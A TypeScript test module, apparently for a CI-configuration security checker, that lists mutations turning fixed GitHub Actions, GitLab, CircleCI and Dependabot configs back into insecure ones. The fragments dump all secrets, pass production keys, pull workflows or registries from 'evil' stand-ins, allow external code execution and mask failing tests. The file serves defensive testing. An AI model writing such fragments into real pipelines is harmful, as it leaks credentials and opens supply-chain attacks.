import type { Attack } from "./github-attacks.ts";
import { swap } from "./proposing.ts";

const on = (rule: string, attacks: Readonly<Record<string, Attack["spoil"]>>): Attack[] =>
  Object.entries(attacks).map(([name, spoil]) => ({ name, rule, spoil }));

/** On rules whose repair names secrets, commits, folders and caches. */
export const NARROWING_ATTACKS: readonly Attack[] = [
  ...on("all-secrets-exposed", {
    "a secret for another variable": swap(
      "          KEY: $",
      "          OTHER: ${{ secrets.OTHER }}\n          KEY: $",
    ),
    "a secret in the command": swap("./go.sh", "./go.sh ${{ secrets.PROD_KEY }}"),
    "all secrets again": swap("secrets.TEST_KEY }}", "secrets.TEST_KEY }}${{ toJSON(secrets) }}"),
    "text of the event beside": swap("matrix.env == 'prod'", "github.event.issue.title == 'prod'"),
    "another environment": swap("    environment: ci\n", "    environment: production\n"),
  }),
  ...on("secrets-inherit", {
    "another secret under the name": swap("${{ secrets.KEY }}", "${{ secrets.ADMIN_KEY }}"),
    "another workflow": swap("./.github/workflows/other.yml", "evil/ci/.github/workflows/other.yml@main"),
    "an input with a secret": swap("    secrets:\n", "    with:\n      key: ${{ secrets.KEY }}\n    secrets:\n"),
  }),
  ...on("unpinned-action", {
    "another commit": (text) => text.replace(/@[0-9a-f]{40}/, `@${"f".repeat(40)}`),
    "another action at its commit": swap("actions/checkout@", "actions/setup-node@"),
    "a fork": swap("actions/checkout@", "action/checkout@"),
  }),
  ...on("masked-failure", {
    "another mask": swap("npm test\n", "npm test || exit 0\n"),
    "no tests": swap("npm test\n", "npm test -- --passWithNoTests\n"),
    "another command": swap("npm test\n", "npm run test:none\n"),
    "a pipe": swap("npm test\n", "npm test | cat\n"),
  }),
  ...on("invalid-glob-pattern", {
    "every branch": swap("release/*", "**"),
    "one branch more": swap("['release/*']", "['release/*', main]"),
  }),
  ...on("gitlab-stage-serial", {
    "a job of another pipeline": swap("needs: []", "needs: [{ project: evil/x, job: y, ref: main, artifacts: true }]"),
    "another stage": swap("stages: [lint, test]", "stages: [test, lint]"),
  }),
  ...on("circleci-cache-key", {
    "a folder of programs": swap("paths: [node_modules]", "paths: [/usr/local/bin]"),
    "a secret in the key": (text) => text.replace('checksum "package-lock.json"', ".Environment.AWS_SECRET_ACCESS_KEY"),
  }),
  ...on("dependabot-missing-ecosystem", {
    "a registry": (text) => `${text}registries:\n  evil: { type: npm-registry, url: "https://evil.example" }\n`,
    "code of packages": (text) => `${text}    insecure-external-code-execution: allow\n`,
    "another branch": (text) => `${text}    target-branch: evil\n`,
    "no cooldown": (text) => text.replace("default-days: 7", "default-days: 0"),
  }),
];
